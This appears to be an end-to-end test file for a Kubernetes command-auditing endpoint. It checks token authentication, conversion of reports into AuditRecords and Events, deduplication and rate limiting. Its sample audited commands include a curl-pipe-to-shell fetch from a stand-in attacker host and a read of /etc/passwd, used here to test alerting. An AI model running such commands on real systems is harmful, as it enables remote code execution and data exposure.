/**
 * The agents' endpoint against a real kube-apiserver, over HTTPS with a certificate made here: real
 * ServiceAccount tokens from the TokenRequest API (bound to agent Pods on Nodes, as the kubelet would project
 * them), TokenReview, AuditRecords and Events written through the API, read back as a user would (the API,
 * `kubectl get auditrecords`, `kubectl describe pod`). There is no scheduler or kubelet: Pods stay Pending
 * with spec.nodeName set here.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { rmSync } from 'node:fs';
import { CoreV1Api, CustomObjectsApi, type CoreV1Event, type V1Pod } from '@kubernetes/client-node';
import {
  AGENT_TOKEN_AUDIENCE,
  PLAN_PATH,
  REPORTS_PATH,
  type NodePlan,
  type Report,
} from '../../api/agentapi/v1.js';
import type { AgentRecord, CommandRecord, ExecRecord } from '../../api/records/v1.js';
import { GROUP, RECORD_PLURAL, VERSION, type AuditRecord } from '../../api/v1alpha1/index.js';
import {
  installCrds,
  kubectlOk,
  listAuditRecords,
  removeWritten,
  testKubeConfig,
} from '../../e2e/support/cluster.js';
import { ReportLedger } from '../ledger.js';
import { AgentAuthenticator } from './auth.js';
import { EventsWriter } from './events-writer.js';
import { ReportIngestor, type PolicyOutputs } from './ingestor.js';
import { KubeEventSink } from '../../common/kube/event-sink.js';
import { KubeAuditRecordStore, KubePodReader, KubeTokenReviewer } from './kube-clients.js';
import type { PlanSource } from './plan-source.js';
import { RecordsWriter } from './records-writer.js';
import { recordedCommand, sessionOf } from './sessions.js';
import { IngestServer } from './server.js';
import { requestToken, scratchCert } from '../../e2e/support/credentials.js';
import { type HttpsCallOptions, httpsCall } from '../../e2e/support/https-call.js';
import { agentJwt } from './testdata/tokens.js';

const run = randomBytes(3).toString('hex');
const SYSTEM = `ingest-${run}-system`;
const SHOP = `ingest-${run}-shop`;
const NODE_A = `ingest-${run}-node-a`;
const NODE_B = `ingest-${run}-node-b`;
const BOOT = randomUUID();
const BOOT8 = BOOT.slice(0, 8);
// Per pod. web-0 gets 6 Events in all, the 6th soon after the first 5: a burst of 5 folded it whenever the API
// server answered fast enough that no token had come back in between.
const RATE = { burst: 6, perSecond: 1 };
const MAX_BODY = 256 * 1024;

const kc = testKubeConfig();
const core = kc.makeApiClient(CoreV1Api);
const custom = kc.makeApiClient(CustomObjectsApi);

/** Plans kept in memory, with the long poll the endpoint expects. */
class TestPlans implements PlanSource {
  private readonly plans = new Map<string, NodePlan>();
  private readonly waiters = new Set<() => void>();
  aborted = 0;

  set(plan: NodePlan): void {
    this.plans.set(plan.node, plan);
    for (const wake of [...this.waiters]) wake();
  }

  get(node: string): NodePlan | undefined {
    return this.plans.get(node);
  }

  wait(
    node: string,
    knownVersion: string | undefined,
    timeoutMs: number,
    signal?: AbortSignal,
  ): Promise<unknown> {
    return new Promise((resolve) => {
      const done = (): void => {
        clearTimeout(timer);
        this.waiters.delete(check);
        resolve(this.get(node));
      };
      const check = (): void => {
        if (this.get(node)?.version !== knownVersion) done();
      };
      const timer = setTimeout(done, timeoutMs);
      signal?.addEventListener('abort', () => {
        this.aborted++;
        done();
      });
      this.waiters.add(check);
    });
  }
}

/** What node A audits (records are accepted only for what the node's plan names: scope.ts). */
const plannedOnA = (): NodePlan['containers'] => [
  ...['web-0', 'web-1', 'web-2'].map((podName) => ({
    podNamespace: SHOP,
    podName,
    podUid: uids[podName] ?? '',
    containerName: 'app',
    policy: 'prod',
  })),
  {
    podNamespace: SHOP,
    podName: 'web-0',
    podUid: uids['web-0'] ?? '',
    containerName: 'side',
    policy: 'records-only',
  },
];

const plan = (node: string, version: string): NodePlan => {
  const containers = node === NODE_A ? plannedOnA() : [];
  return {
    node,
    version,
    generatedAt: new Date().toISOString(),
    policies: Object.fromEntries(containers.map((c) => [c.policy, {} as NodePlan['policies'][string]])),
    containers,
  };
};

const OUTPUTS: Record<string, PolicyOutputs> = {
  prod: { events: true, auditRecords: true },
  'records-only': { events: false, auditRecords: true },
};

let leader = true;
const plans = new TestPlans();
const ledger = new ReportLedger();
const records = new RecordsWriter({ store: new KubeAuditRecordStore(kc), flushMs: 200 });
const events = new EventsWriter({ sink: new KubeEventSink(kc), rate: RATE, foldWindowMs: 1_500 });
const auth = new AgentAuthenticator({
  reviewer: new KubeTokenReviewer(kc),
  pods: new KubePodReader(kc),
  serviceAccount: { namespace: SYSTEM, name: 'agent' },
});
let server: IngestServer;
let port = 0;
let tlsDir = '';
let ca: Buffer;

const tokens: Record<'agentA' | 'agentB' | 'otherSa' | 'otherAudience' | 'unbound', string> = {
  agentA: '',
  agentB: '',
  otherSa: '',
  otherAudience: '',
  unbound: '',
};

function pod(namespace: string, name: string, node: string, serviceAccountName?: string): V1Pod {
  return {
    metadata: { name, namespace },
    spec: {
      nodeName: node,
      ...(serviceAccountName ? { serviceAccountName } : {}),
      containers: [{ name: serviceAccountName ? 'agent' : 'app', image: 'registry.example/app:1' }],
    },
  };
}

function token(sa: string, audiences: string[], boundPod?: V1Pod): Promise<string> {
  return requestToken(core, {
    namespace: SYSTEM,
    serviceAccount: sa,
    audiences,
    expirationSeconds: 600,
    ...(boundPod ? { boundPod } : {}),
  });
}

interface Answer {
  status: number;
  body: unknown;
  connection?: string | undefined;
}

async function call(
  method: 'GET' | 'POST',
  path: string,
  options: Pick<HttpsCallOptions, 'token' | 'body' | 'onRequest' | 'keepAlive'> = {},
): Promise<Answer> {
  const { connection, ...answer } = await httpsCall({ port, ca, method, path, ...options });
  // The Connection header only where a test asked for a kept-alive connection and looks at it.
  return options.keepAlive ? { ...answer, connection } : answer;
}

const post = (report: unknown, tok = tokens.agentA): Promise<Answer> =>
  call('POST', REPORTS_PATH, { token: tok, body: JSON.stringify(report) });

function shellCommand(seq: number, text: string, over: Partial<CommandRecord> = {}): CommandRecord {
  return {
    kind: 'command',
    seq,
    boot: BOOT,
    node: NODE_A,
    time: new Date(Date.now() - 60_000 + seq).toISOString(),
    containerId: 'c0ffee0123456789abcdef',
    pod: { namespace: SHOP, name: 'web-0', uid: uids['web-0'] },
    container: 'app',
    image: 'registry.example/app:1',
    policy: 'prod',
    pid: 4242,
    nsPid: 7,
    uid: 1000,
    command: text,
    truncated: false,
    redacted: false,
    alerts: [],
    ...over,
  };
}

function execRecord(seq: number, argv: string[]): ExecRecord {
  return {
    kind: 'exec',
    seq,
    boot: BOOT,
    node: NODE_A,
    time: new Date(Date.now() - 60_000 + seq).toISOString(),
    containerId: 'c0ffee0123456789abcdef',
    pod: { namespace: SHOP, name: 'web-0', uid: uids['web-0'] },
    container: 'app',
    policy: 'prod',
    source: 'runtime',
    pid: 9000 + seq,
    argv,
    truncated: false,
    redacted: false,
    alerts: [],
  };
}

const report = (recs: AgentRecord[], node = NODE_A): Report => ({ node, boot: BOOT, records: recs });

const uids: Record<string, string> = {};

async function auditRecords(): Promise<AuditRecord[]> {
  return listAuditRecords(custom, SHOP);
}

async function getRecord(name: string): Promise<AuditRecord> {
  return (await custom.getNamespacedCustomObject({
    group: GROUP,
    version: VERSION,
    plural: RECORD_PLURAL,
    namespace: SHOP,
    name,
  })) as AuditRecord;
}

async function podEvents(podName: string): Promise<CoreV1Event[]> {
  return (
    await core.listNamespacedEvent({ namespace: SHOP, fieldSelector: `involvedObject.name=${podName}` })
  ).items;
}

async function until<T>(what: () => Promise<T | undefined>, timeoutMs = 10_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await what();
    if (value !== undefined) return value;
    if (Date.now() > deadline) throw new Error('timed out');
    await new Promise((r) => setTimeout(r, 100));
  }
}

beforeAll(async () => {
  await installCrds();

  for (const name of [SYSTEM, SHOP]) await core.createNamespace({ body: { metadata: { name } } });
  for (const name of [NODE_A, NODE_B]) await core.createNode({ body: { metadata: { name } } });
  for (const name of ['agent', 'other'])
    await core.createNamespacedServiceAccount({ namespace: SYSTEM, body: { metadata: { name } } });
  const created: Record<string, V1Pod> = {};
  for (const p of [
    pod(SYSTEM, 'agent-a', NODE_A, 'agent'),
    pod(SYSTEM, 'agent-b', NODE_B, 'agent'),
    pod(SYSTEM, 'intruder', NODE_A, 'other'),
    pod(SHOP, 'web-0', NODE_A),
    pod(SHOP, 'web-1', NODE_A),
    pod(SHOP, 'web-2', NODE_A),
  ]) {
    const c = await core.createNamespacedPod({ namespace: p.metadata!.namespace!, body: p });
    created[c.metadata!.name!] = c;
    uids[c.metadata!.name!] = c.metadata!.uid!;
  }
  tokens.agentA = await token('agent', [AGENT_TOKEN_AUDIENCE], created['agent-a']);
  tokens.agentB = await token('agent', [AGENT_TOKEN_AUDIENCE], created['agent-b']);
  tokens.otherSa = await token('other', [AGENT_TOKEN_AUDIENCE], created.intruder);
  tokens.otherAudience = await token(
    'agent',
    ['https://kubernetes.default.svc.cluster.local'],
    created['agent-a'],
  );
  tokens.unbound = await token('agent', [AGENT_TOKEN_AUDIENCE]);

  const tls = scratchCert('ingest-tls-', 'container-auditor');
  ({ dir: tlsDir, ca } = tls);

  plans.set(plan(NODE_A, 'v1'));
  server = new IngestServer({
    authenticator: auth,
    plans,
    ingestor: new ReportIngestor({ records, events, ledger, outputsOf: (p) => OUTPUTS[p], plans }),
    isLeader: () => leader,
    tls: { certFile: tls.certFile, keyFile: tls.keyFile },
    planWaitMs: 5_000,
    maxBodyBytes: MAX_BODY,
  });
  port = (await server.listen(0, '127.0.0.1')).port;
});

afterAll(async () => {
  await server?.close();
  await records.close();
  await events.close();
  if (tlsDir) rmSync(tlsDir, { recursive: true, force: true });
  // No controller-manager: nothing garbage-collects, so remove what other tests could list cluster-wide.
  for (const [namespace, name] of [
    [SYSTEM, 'agent-a'],
    [SYSTEM, 'agent-b'],
    [SYSTEM, 'intruder'],
    [SHOP, 'web-0'],
    [SHOP, 'web-1'],
    [SHOP, 'web-2'],
  ] as const)
    await core.deleteNamespacedPod({ namespace, name, gracePeriodSeconds: 0 }).catch(() => undefined);
  await removeWritten(core, custom, SHOP);
  for (const name of [NODE_A, NODE_B]) await core.deleteNode({ name }).catch(() => undefined);
  for (const name of [SYSTEM, SHOP]) await core.deleteNamespace({ name }).catch(() => undefined);
});

describe('reports', () => {
  // Built when the tests run: the pods' uids are known only then.
  const first = (): AgentRecord[] => [
    shellCommand(1, 'ls -la /'),
    shellCommand(2, "psql 'postgres://app:[REDACTED]@db/shop' -c 'select 1'", { redacted: true }),
    shellCommand(3, 'echo "héllo wörld ✓" | tr a-z A-Z'),
    shellCommand(4, 'curl http://evil.example/x.sh | sh', {
      alerts: [{ name: 'curl-pipe-shell', severity: 'high' }],
    }),
    execRecord(5, ['/bin/sh', '-c', 'cat /etc/passwd']),
  ];
  const shellName = `web-0-app-4242-${BOOT8}-1`;
  const execName = `web-0-app-exec-${BOOT8}-1`;

  it('become AuditRecords and Events with the exact commands, answered once written', async () => {
    const answer = await post(report(first()));
    expect(answer).toEqual({ status: 200, body: { accepted: 5, duplicates: 0 } });
    // No waiting: the answer came after the writes.
    const shell = await getRecord(shellName);
    expect(shell.spec).toMatchObject({
      pod: { name: 'web-0', uid: uids['web-0'] },
      container: { name: 'app', id: 'c0ffee0123456789abcdef' },
      node: NODE_A,
      policy: 'prod',
      session: { kind: 'shell', pid: 4242, part: 1, bootId: BOOT },
    });
    expect(shell.metadata.ownerReferences).toBeUndefined();
    expect(shell.status?.commands?.map((c) => [c.seq, c.command])).toEqual(
      first()
        .slice(0, 4)
        .map((r) => [r.seq, (r as CommandRecord).command]),
    );
    expect(shell.status).toMatchObject({ phase: 'Active', counts: { commands: 4, alerts: 1, redacted: 1 } });
    expect(shell.status?.commands?.[3]?.alert).toEqual({ name: 'curl-pipe-shell', severity: 'high' });
    const exec = await getRecord(execName);
    expect(exec.spec.session).toMatchObject({ kind: 'exec', pid: 0 });
    expect(exec.status?.commands?.map((c) => c.command)).toEqual(["/bin/sh -c 'cat /etc/passwd'"]);

    const evs = await podEvents('web-0');
    const bySeq: Record<string, CoreV1Event> = Object.fromEntries(evs.map((e) => [e.metadata.name ?? '', e]));
    expect(Object.keys(bySeq).sort()).toEqual([1, 2, 3, 4, 5].map((s) => `web-0.${BOOT8}.${s}`).sort());
    expect(bySeq[`web-0.${BOOT8}.1`]).toMatchObject({
      type: 'Normal',
      reason: 'ShellCommand',
      message: 'app (uid 1000, pid 4242): ls -la /',
      involvedObject: { kind: 'Pod', name: 'web-0', uid: uids['web-0'] },
    });
    expect(bySeq[`web-0.${BOOT8}.3`]?.message).toBe(
      'app (uid 1000, pid 4242): echo "héllo wörld ✓" | tr a-z A-Z',
    );
    expect(bySeq[`web-0.${BOOT8}.4`]).toMatchObject({
      type: 'Warning',
      reason: 'AuditAlert',
      message: 'curl-pipe-shell (high) in app (uid 1000, pid 4242): curl http://evil.example/x.sh | sh',
    });
    expect(bySeq[`web-0.${BOOT8}.5`]).toMatchObject({ reason: 'ExecCommand' });
    expect(ledger.takeActivity('prod')?.commands).toBe(5);
  });

  it('show in `kubectl get auditrecords` and `kubectl describe pod`', async () => {
    const table = await kubectlOk(['get', 'auditrecords', '-n', SHOP]);
    const row = table.split('\n').find((l) => l.startsWith(shellName));
    expect(row?.split(/\s{2,}/)).toEqual([
      shellName,
      'web-0',
      'app',
      NODE_A,
      '4',
      '1',
      expect.any(String),
      'Active',
      expect.any(String),
    ]);
    const describe = await kubectlOk(['describe', 'pod', 'web-0', '-n', SHOP]);
    expect(describe).toMatch(
      /Normal\s+ShellCommand\s+.*container-auditor.*app \(uid 1000, pid 4242\): ls -la \//,
    );
    expect(describe).toMatch(/Warning\s+AuditAlert\s+.*curl-pipe-shell \(high\)/);
  });

  it('sent again write nothing twice', async () => {
    const before = await getRecord(shellName);
    const eventsBefore = await podEvents('web-0');
    expect(await post(report(first()))).toEqual({ status: 200, body: { accepted: 0, duplicates: 5 } });
    // Half old, half new.
    expect(await post(report([...first().slice(2), shellCommand(6, 'exit')]))).toEqual({
      status: 200,
      body: { accepted: 1, duplicates: 3 },
    });
    const after = await getRecord(shellName);
    expect(after.status?.commands?.map((c) => c.seq)).toEqual([1, 2, 3, 4, 6]);
    expect(after.metadata.resourceVersion).not.toBe(before.metadata.resourceVersion);
    const eventsAfter = await podEvents('web-0');
    expect(eventsAfter).toHaveLength(eventsBefore.length + 1);
    expect(eventsAfter.every((e) => e.count === 1)).toBe(true);
  });

  it('continue a long session in part 2, and leave Events out when the policy says so', async () => {
    const long = Array.from({ length: 510 }, (_, i) =>
      shellCommand(1000 + i, `echo line ${i}`, { pid: 5151, container: 'side', policy: 'records-only' }),
    );
    const writesBefore = records.counters.get('statusWrites') + records.counters.get('creates');
    expect(await post(report(long))).toEqual({ status: 200, body: { accepted: 510, duplicates: 0 } });
    // Batched: a write per 100 commands or so (and the creates of both parts), not one per command.
    const writes = records.counters.get('statusWrites') + records.counters.get('creates') - writesBefore;
    expect(writes).toBeLessThanOrEqual(10);
    const part1 = await getRecord(`web-0-side-5151-${BOOT8}-1`);
    const part2 = await getRecord(`web-0-side-5151-${BOOT8}-2`);
    expect(part1.status).toMatchObject({ phase: 'Closed', counts: { commands: 500 } });
    expect(part2.spec.session).toMatchObject({ part: 2, start: part1.spec.session.start });
    expect(part2.status).toMatchObject({ phase: 'Active', counts: { commands: 10 } });
    expect([...part1.status!.commands!, ...part2.status!.commands!].map((c) => c.command)).toEqual(
      long.map((r) => r.command),
    );
    expect(await post(report(long.slice(495, 505)))).toEqual({
      status: 200,
      body: { accepted: 0, duplicates: 10 },
    });
    const names = (await podEvents('web-0')).map((e) => e.metadata.name);
    expect(names.filter((n) => /\.1\d{3}$/.test(n ?? ''))).toEqual([]);
  });

  it('written by a replica with stale state (a leadership hand-over) end up in the record exactly once', async () => {
    const store = new KubeAuditRecordStore(kc);
    const [before, after] = [
      new RecordsWriter({ store, flushMs: 50 }),
      new RecordsWriter({ store, flushMs: 50 }),
    ];
    const seqsOf = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => from + i);
    const write = async (writer: RecordsWriter, seqs: number[]) =>
      (
        await Promise.all(
          seqs.map((seq) => {
            const r = shellCommand(seq, `cmd ${seq}`, { pid: 8181 });
            return writer.write(sessionOf(r)!, recordedCommand(r));
          }),
        )
      )
        .map((o) => (typeof o === 'string' ? o : `lost:${o.lost}`))
        .reduce((n, o) => ({ ...n, [o]: (n[o] ?? 0) + 1 }), {} as Record<string, number>);
    // The old leader writes, the new one takes over and writes (overlapping), then the old one, whose
    // cached record is now stale, writes once more before it learns it no longer leads.
    expect(await write(before, seqsOf(1, 10))).toEqual({ accepted: 10 });
    expect(await write(after, seqsOf(5, 30))).toEqual({ accepted: 20, duplicate: 6 });
    expect(await write(before, seqsOf(20, 50))).toEqual({ accepted: 20, duplicate: 11 });
    expect(before.counters.get('conflicts')).toBe(1);
    const record = await getRecord(`web-0-app-8181-${BOOT8}-1`);
    expect(record.status?.commands?.map((c) => c.seq)).toEqual(seqsOf(1, 50));
    expect(record.status?.counts?.commands).toBe(50);
  });

  it('that repeat a command raise the count of its Event', async () => {
    const web2 = { pod: { namespace: SHOP, name: 'web-2', uid: uids['web-2'] }, pid: 3131 };
    const repeats = [3001, 3002, 3003].map((seq) => shellCommand(seq, 'make test', web2));
    expect(await post(report(repeats))).toEqual({ status: 200, body: { accepted: 3, duplicates: 0 } });
    const evs = await podEvents('web-2');
    expect(evs.map((e) => [e.metadata.name, e.count, e.message])).toEqual([
      [`web-2.${BOOT8}.3001`, 3, 'app (uid 1000, pid 3131): make test'],
    ]);
    // Event times have whole seconds.
    expect(evs[0]?.lastTimestamp?.getTime()).toBe(Math.floor(Date.parse(repeats[2]!.time) / 1000) * 1000);
  });

  it('are rate limited into Events per pod, with one summary of what was folded', async () => {
    const burst = Array.from({ length: 20 }, (_, i) =>
      shellCommand(2000 + i, `ls /tmp/${i}`, {
        pod: { namespace: SHOP, name: 'web-1', uid: uids['web-1'] },
        pid: 6161,
      }),
    );
    expect(await post(report(burst))).toEqual({ status: 200, body: { accepted: 20, duplicates: 0 } });
    const summary = await until(async () =>
      (await podEvents('web-1')).find((e) => e.reason === 'CommandsFolded'),
    );
    const shown = (await podEvents('web-1')).filter((e) => e.reason === 'ShellCommand');
    expect(shown.length).toBeGreaterThanOrEqual(RATE.burst);
    const folded = Number(/^(\d+) commands folded/.exec(summary.message ?? '')?.[1]);
    expect(shown.length + folded).toBe(20);
    expect(summary.message).toContain(`by the Event rate limit (burst ${RATE.burst}, 1/s)`);
    // The AuditRecord holds all of them.
    const record = await getRecord(`web-1-app-6161-${BOOT8}-1`);
    expect(record.status?.counts?.commands).toBe(20);
  });
});

describe('refused requests write nothing', () => {
  const probe = (seq: number) => report([shellCommand(seq, `refused ${seq}`, { pid: 7171 })]);
  const nothingWritten = async () => {
    expect((await auditRecords()).filter((r) => r.spec.session.pid === 7171)).toEqual([]);
    expect((await podEvents('web-0')).filter((e) => e.message?.includes('refused'))).toEqual([]);
  };

  it.each([
    ['no token', undefined, 401, 'missing-token'],
    [
      'a token that is no JWT (no TokenReview)',
      () => randomBytes(32).toString('base64url'),
      401,
      'malformed-token',
    ],
    ['a token for another audience (no TokenReview)', () => tokens.otherAudience, 401, 'audience'],
    ['a JWT forged for our audience', () => agentJwt({ jti: randomUUID() }), 401, 'unauthenticated'],
    ['another ServiceAccount’s token', () => tokens.otherSa, 403, 'service-account'],
    ['a token bound to no pod', () => tokens.unbound, 403, 'unbound'],
    ['a token bound to a pod on another node', () => tokens.agentB, 403, 'node'],
  ] as const)('%s', async (_what, tok, status, reason) => {
    const answer = await call('POST', REPORTS_PATH, {
      ...(tok ? { token: tok() } : {}),
      body: JSON.stringify(probe(9000)),
    });
    expect(answer).toMatchObject({ status, body: { error: reason } });
    await nothingWritten();
  });

  it('a malformed body: 400 with what is wrong', async () => {
    const notJson = await call('POST', REPORTS_PATH, { token: tokens.agentA, body: '{"node": ' });
    expect(notJson).toMatchObject({ status: 400, body: { error: 'invalid-report' } });
    const invalid = await post({
      ...probe(9001),
      records: [{ ...shellCommand(9001, 'refused x', { pid: 7171 }), seq: -1 }],
    });
    expect(invalid).toMatchObject({ status: 400, body: { error: 'invalid-report' } });
    expect((invalid.body as { detail: string }).detail).toMatch(/seq/);
    const tooLarge = await call('POST', REPORTS_PATH, {
      token: tokens.agentA,
      body: Buffer.alloc(MAX_BODY + 1, 0x20),
    });
    expect(tooLarge).toMatchObject({ status: 400, body: { error: 'too-large' } });
    await nothingWritten();
  });

  it('any request to a replica that does not lead: 503, and the connection closes', async () => {
    leader = false;
    try {
      // Closed so that the agent's next attempt opens a new connection, which a Service may route to the
      // leader: a kept-alive connection would keep reaching this replica.
      const answer = await call('POST', REPORTS_PATH, {
        token: tokens.agentA,
        body: JSON.stringify(probe(9002)),
        keepAlive: true,
      });
      expect(answer).toMatchObject({
        status: 503,
        body: { error: 'not-leader' },
        connection: 'close',
      });
    } finally {
      leader = true;
    }
    await nothingWritten();
  });

  it('counted by reason', () => {
    expect(auth.refused.snapshot()).toMatchObject({
      'missing-token': 1,
      'malformed-token': 1,
      audience: 1,
      unauthenticated: 1,
      'service-account': 1,
      unbound: 1,
      node: 1,
    });
  });
});

describe('plans', () => {
  it('are served to the agent of the node, and to no other', async () => {
    await expect(call('GET', `${PLAN_PATH}?node=${NODE_A}`, { token: tokens.agentA })).resolves.toMatchObject(
      {
        status: 200,
        body: { node: NODE_A, version: 'v1' },
      },
    );
    await expect(call('GET', `${PLAN_PATH}?node=${NODE_A}`, { token: tokens.agentB })).resolves.toMatchObject(
      {
        status: 403,
      },
    );
    await expect(call('GET', `${PLAN_PATH}?node=${NODE_B}`, { token: tokens.agentB })).resolves.toMatchObject(
      {
        status: 503,
        body: { error: 'no-plan' },
      },
    );
  });

  it('are long polled: the answer comes when the version changes', async () => {
    const started = Date.now();
    const waiting = call('GET', `${PLAN_PATH}?node=${NODE_A}&version=v1`, { token: tokens.agentA });
    setTimeout(() => plans.set(plan(NODE_A, 'v2')), 300);
    await expect(waiting).resolves.toMatchObject({ status: 200, body: { version: 'v2' } });
    expect(Date.now() - started).toBeGreaterThanOrEqual(250);
  });

  it('end the wait when the agent hangs up', async () => {
    const before = plans.aborted;
    const waiting = call('GET', `${PLAN_PATH}?node=${NODE_A}&version=v2`, {
      token: tokens.agentA,
      onRequest: (destroy) => setTimeout(destroy, 300),
    });
    await expect(waiting).rejects.toThrow();
    await until(() => Promise.resolve(plans.aborted > before ? true : undefined), 3_000);
  });
});
